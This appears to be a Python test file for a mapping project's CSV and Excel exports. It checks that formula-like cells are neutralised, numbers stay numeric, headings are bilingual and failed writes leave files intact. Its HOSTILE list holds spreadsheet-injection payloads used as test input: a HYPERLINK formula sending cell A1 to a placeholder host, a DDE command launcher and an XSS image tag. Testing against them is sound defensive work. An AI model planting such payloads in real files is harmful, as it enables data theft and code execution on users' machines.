"""Exports against hostile text and failing disks (issue 13 items 3 and 5): no cell is a
live formula, numbers stay numbers, and a failed export leaves the folder as it was."""

from __future__ import annotations

import csv
import os
from dataclasses import replace

import openpyxl
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from analysis import export as ex
from analysis import outputs
from analysis import project as pj
from geo.grids import edits
from geo.errors import ProjectFileError
from tests.analysis.project_fixtures import project_result

HOSTILE = ["=HYPERLINK(\"http://x.invalid/?\"&A1,\"点我\")", "=cmd|' /C calc'!A0", "+1+2",
           "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "＝1+1", "<img src=x onerror=alert(1)>"]
TRIED = {"cells": 0}


@pytest.fixture(scope="module", autouse=True)
def report_tried(request):
    """After the module: how many generated cells the property test tried."""
    yield
    capture = request.config.pluginmanager.get_plugin("capturemanager")
    line = f"[fuzz] export cells: tried {TRIED['cells']} values"
    with capture.global_and_fixture_disabled():
        print(f"\n{line}")


@pytest.fixture(scope="module")
def hostile_project(small_district):
    base = pj.project_from_result(project_result(small_district))
    session = base.session
    ids = sorted(base.layers["grids"]["grid_id"])
    for gid, name in zip(ids, HOSTILE):
        session, _ = edits.apply_edit(session, edits.rename_grid, gid, name, author="=evil()")
    work = pj.with_session(base, session)
    return replace(work, meta={**work.meta, "area": "=1+1区", "credit": "© OpenStreetMap contributors"})


def _formula_like(text: str) -> bool:
    return isinstance(text, str) and text.startswith(ex.FORMULA_START)


def test_csv_cells_are_never_formulas(hostile_project, tmp_path):
    files = ex.export_project(hostile_project, "csv", tmp_path)
    seen = 0
    for path in files:
        with path.open(encoding="utf-8-sig", newline="") as handle:
            for row in csv.reader(handle):
                for cell in row:
                    seen += 1
                    assert not _formula_like(cell), (path.name, cell)
    grids = pd.read_csv(next(p for p in files if p.name.endswith("_grids.csv")),
                        encoding="utf-8-sig", header=1)
    assert "'=cmd|' /C calc'!A0" in set(grids["name"])  # kept, only neutralised
    assert pd.api.types.is_integer_dtype(grids["households"])  # numbers stay numbers
    assert seen > 100


def test_xlsx_holds_no_formula_and_numbers_stay_numbers(hostile_project, tmp_path):
    (path,) = ex.export_project(hostile_project, "xlsx", tmp_path, lang="en")
    book = openpyxl.load_workbook(path)
    numbers = cells = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                cells += 1
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                assert not _formula_like(cell.value), (sheet.title, cell.value)
                numbers += isinstance(cell.value, (int, float)) and not isinstance(cell.value, bool)
    assert numbers > 50 and cells > numbers
    grids = pd.read_excel(path, sheet_name="Grids", header=1)
    assert pd.api.types.is_integer_dtype(grids["households"])
    assert "'=HYPERLINK(\"http://x.invalid/?\"&A1,\"点我\")" in set(grids["name"])
    assert pd.read_excel(path, sheet_name="Grids").columns[0] == "Grid ID"  # headings in English


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.one_of(st.text(max_size=30), st.integers(), st.floats(allow_nan=False), st.none(),
                 st.sampled_from(HOSTILE)))
def test_neutral_text_property(value):
    """For any cell: text starting like a formula gains one apostrophe and nothing else
    changes; numbers and empty cells are returned as they are."""
    TRIED["cells"] += 1
    out = ex.neutral_text(value)
    if isinstance(value, str):  # line breaks become spaces first (issue 26 item 6)
        value = ex._LINE_BREAKS.sub(" ", value)
    if isinstance(value, str) and (value.startswith(tuple("=+-@\t\r＝＋－＠"))
                                   or value.lstrip(ex._LEADING).startswith(tuple("=+-@＝＋－＠"))):
        assert out == "'" + value
    else:
        assert out is value or out == value


def test_headings_follow_the_language(hostile_project, tmp_path):
    zh = ex.export_project(hostile_project, "csv", tmp_path / "zh", lang="zh")
    en = ex.export_project(hostile_project, "csv", tmp_path / "en", lang="en")
    head_zh = next(p for p in zh if p.name.endswith("_grids.csv")).read_text("utf-8-sig")
    head_en = next(p for p in en if p.name.endswith("_grids.csv")).read_text("utf-8-sig")
    zh_heads, fields = head_zh.splitlines()[0].split(","), head_zh.splitlines()[1].split(",")
    en_heads = head_en.splitlines()[0].split(",")
    assert head_zh.splitlines()[1] == head_en.splitlines()[1]  # field names for programs
    assert fields[:2] == ["grid_id", "community_id"] and "households" in fields
    assert zh_heads[:2] == ["网格编号", "社区编号"] and en_heads[:2] == ["Grid ID", "Community ID"]
    assert zh_heads[fields.index("households")] == "户数"
    assert en_heads[fields.index("households")] == "Households"
    # every field has a heading of its own in both languages (none left as the field name)
    assert all(h != f for h, f in zip(zh_heads, fields)), list(zip(zh_heads, fields))
    assert all(h != f for h, f in zip(en_heads, fields)), list(zip(en_heads, fields))


@pytest.mark.parametrize("fmt", ["csv", "geojson", "xlsx", "shp", "gpkg"])
def test_failed_export_leaves_the_folder_as_it_was(hostile_project, tmp_path, monkeypatch, fmt):
    out = tmp_path / "out"
    ex.export_project(hostile_project, fmt, out)
    before = {p.name: p.read_bytes() for p in out.iterdir()}
    grids = hostile_project.layers["grids"]
    changed = replace(hostile_project, layers={**hostile_project.layers,
                                               "grids": grids.assign(households=grids["households"] + 1)})
    writers = {"csv": "write_csv", "geojson": "write_geojson", "xlsx": "write_xlsx",
               "shp": "write_shapefile", "gpkg": "write_gpkg"}
    real_writer = getattr(ex, writers[fmt])

    def failing_writer(project, stage, **kw):  # every file written, then the disk is full
        real_writer(project, stage, **kw)
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(ex, writers[fmt], failing_writer)
    with pytest.raises(ProjectFileError) as info:
        ex.export_project(changed, fmt, out)
    assert "No space left" in info.value.bilingual()
    after = {p.name: p.read_bytes() for p in out.iterdir()}
    assert after == before  # same files, same bytes, no staging folder left


def test_two_writers_to_one_target_use_their_own_temporary_files(tmp_path):
    target = tmp_path / "r.pdf"
    with outputs.atomic_file(target) as first, outputs.atomic_file(target) as second:
        assert first != second and first.parent == second.parent == tmp_path
        first.write_bytes(b"one")
        second.write_bytes(b"two")
    assert target.read_bytes() in (b"one", b"two")
    assert [p.name for p in tmp_path.iterdir()] == ["r.pdf"]


def test_atomic_file_failure_keeps_previous(tmp_path):
    target = tmp_path / "summary.json"
    target.write_text("old")
    with pytest.raises(RuntimeError):
        with outputs.atomic_file(target) as tmp:
            tmp.write_text("half")
            raise RuntimeError("killed")
    assert target.read_text() == "old" and [p.name for p in tmp_path.iterdir()] == ["summary.json"]


def test_output_checks(tmp_path):
    from geo.errors import InputError

    with pytest.raises(InputError) as info:
        outputs.check_output_file(tmp_path)
    assert info.value.key == "err.out_is_dir"
    with pytest.raises(InputError) as info:
        outputs.check_output_file(tmp_path / "missing" / "x.json")
    assert info.value.key == "err.out_dir_missing"
    locked = tmp_path / "ro"
    locked.mkdir()
    locked.chmod(0o555)
    try:
        if os.access(locked, os.W_OK):
            pytest.skip("running as a user who can write anywhere")
        with pytest.raises(InputError) as info:
            outputs.check_output_file(locked / "x.json")
        assert info.value.key == "err.out_not_writable"
        with pytest.raises(InputError) as info:
            outputs.check_output_folder(locked)
        assert info.value.key == "err.out_not_writable"
    finally:
        locked.chmod(0o755)
    plain = tmp_path / "file.txt"
    plain.write_text("x")
    with pytest.raises(InputError) as info:
        outputs.check_output_folder(plain)
    assert info.value.key == "err.export_not_dir"


def test_two_exports_to_one_folder_at_once_both_succeed(hostile_project, tmp_path):
    """Two processes exporting into one folder: both finish (exit 0), and what is left is
    one complete workbook and complete CSVs, no temporary files."""
    import subprocess
    import sys
    from pathlib import Path

    saved = tmp_path / "p.gpkg"
    pj.save(replace(hostile_project, path=None), saved)
    root = Path(__file__).resolve().parents[2]
    out = tmp_path / "x"
    procs = [subprocess.Popen([sys.executable, "-m", "analysis", "export", str(saved), "--format", fmt,
                               "--out", str(out)], cwd=root, stderr=subprocess.PIPE, text=True)
             for fmt in ("xlsx", "xlsx", "csv", "csv")]
    codes = [p.wait(timeout=300) for p in procs]
    assert codes == [0, 0, 0, 0], [p.stderr.read() for p in procs]
    names = sorted(p.name for p in out.iterdir())
    assert not [n for n in names if n.startswith(".")]
    book = openpyxl.load_workbook(out / "p.xlsx")
    assert "网格" in book.sheetnames
    grids = pd.read_csv(out / "p_grids.csv", encoding="utf-8-sig", header=1)
    assert len(grids) == len(hostile_project.layers["grids"])


def test_every_exported_field_of_a_real_project_has_headings(tmp_path):
    """The Beijing sample through the command line: every column of every CSV has a
    heading of its own in both languages."""
    from analysis.cli import main
    from tests.conftest import BEIJING_OSM

    if not BEIJING_OSM.exists():
        pytest.skip("the shared Beijing sample is not here")
    saved = tmp_path / "bj.gpkg"
    assert main(["run", "--osm", str(BEIJING_OSM), "--out", str(saved)]) == 0
    project = pj.open_project(saved)
    for name, frame in ex.table_frames(project).items():
        for lang in ("zh", "en"):
            missing = [c for c in frame.columns if ex.column_label(c, lang) == c]
            assert not missing, (name, lang, missing)
